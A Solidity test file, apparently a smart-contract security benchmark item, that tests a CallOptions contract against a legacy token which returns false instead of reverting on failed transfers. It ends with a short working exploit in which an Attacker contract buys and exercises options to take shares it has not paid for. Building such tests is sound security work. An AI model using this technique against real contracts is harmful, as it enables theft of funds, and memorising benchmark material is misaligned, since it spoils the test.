pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./CallOptions.sol";

// assay-canary-ab033989-f997-42ad-8f80-af6ffd5e2276

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// An old coin, which answers instead of reverting, except while its issuer has stopped it.
contract OldCoin {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private issuer = msg.sender;
    bool private stopped;

    constructor() public {
        balanceOf[msg.sender] = 100000 ether;
    }

    function stop() external {
        require(msg.sender == issuer, "not the issuer");
        stopped = true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return move(msg.sender, to, amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (allowance[from][msg.sender] < amount || !move(from, to, amount)) {
            return false;
        }
        allowance[from][msg.sender] -= amount;
        return true;
    }

    function move(address from, address to, uint256 amount) private returns (bool) {
        require(!stopped, "stopped");
        if (balanceOf[from] < amount) {
            return false;
        }
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Share is ERC20 {
    constructor() public {
        _mint(msg.sender, 10000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant BANK = address(0xBA2);
    address private constant ANA = address(0xA9A);
    uint256 private constant START = 1600000000;

    OldCoin private coin;
    Share private share;
    CallOptions private series;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new OldCoin();
        share = new Share();
        vm.prank(BANK);
        series = new CallOptions(IERC20(address(coin)), share, 1 ether, 50 ether, START + 30 days);
        share.transfer(address(series), 200 ether);
        coin.transfer(ANA, 5000 ether);
        vm.startPrank(ANA);
        coin.approve(address(series), 5000 ether);
        series.buy(20);
        vm.stopPrank();
        mallory = new Attacker(series, coin);
        coin.transfer(address(mallory), 100 ether);
    }

    function test_Regular() public {
        require(series.options(ANA) == 20 && series.sold() == 20 && coin.balanceOf(ANA) == 4980 ether, "bought");
        vm.prank(ANA);
        series.exercise(15);
        require(share.balanceOf(ANA) == 15 ether && coin.balanceOf(ANA) == 4230 ether, "exercised");
        require(series.options(ANA) == 5 && series.sold() == 5, "left");
        vm.prank(ANA);
        series.buy(180);
        vm.prank(BANK);
        series.take(IERC20(address(coin)), 950 ether);
        require(coin.balanceOf(BANK) == 950 ether, "taken");
        vm.warp(START + 30 days);
        vm.startPrank(BANK);
        series.take(share, 185 ether);
        require(share.balanceOf(BANK) == 185 ether, "given back");
        series.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        series.renounceOwnership();
    }

    function test_RefusesTerms() public {
        IERC20 c = IERC20(address(coin));
        vm.expectRevert("one token");
        new CallOptions(share, share, 1, 1, START + 1);
        vm.expectRevert("no price");
        new CallOptions(c, share, 0, 1, START + 1);
        vm.expectRevert("no price");
        new CallOptions(c, share, 1, 0, START + 1);
        vm.expectRevert("expired");
        new CallOptions(c, share, 1, 1, START);
    }

    function test_RefusesHolders() public {
        vm.startPrank(ANA);
        vm.expectRevert("sold out");
        series.buy(181);
        vm.expectRevert("too few");
        series.exercise(21);
        vm.stopPrank();
        vm.expectRevert("SafeERC20: ERC20 operation did not succeed");
        series.buy(1);
    }

    function test_RefusesLateness() public {
        vm.warp(START + 30 days);
        vm.startPrank(ANA);
        vm.expectRevert("expired");
        series.buy(1);
        vm.expectRevert("expired");
        series.exercise(1);
        vm.stopPrank();
    }

    function test_RefusesAStoppedCoin() public {
        coin.stop();
        vm.prank(ANA);
        vm.expectRevert();
        series.exercise(1);
    }

    function test_RefusesTakers() public {
        vm.expectRevert("Ownable: caller is not the owner");
        series.take(IERC20(address(coin)), 1);
        vm.startPrank(BANK);
        vm.expectRevert("not yet");
        series.take(share, 1);
        vm.expectRevert("SafeERC20: ERC20 operation did not succeed");
        series.take(IERC20(address(coin)), 20 ether + 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(share.balanceOf(address(mallory)) >= 90 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(series);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function asset() public view returns (address) {
        return address(share);
    }
}

contract Attacker {
    CallOptions private series;
    OldCoin private coin;

    constructor(CallOptions s, OldCoin c) public {
        series = s;
        coin = c;
    }

    function run() external {
        coin.approve(address(series), 100 ether);
        series.buy(100);
        series.exercise(100);
    }
}
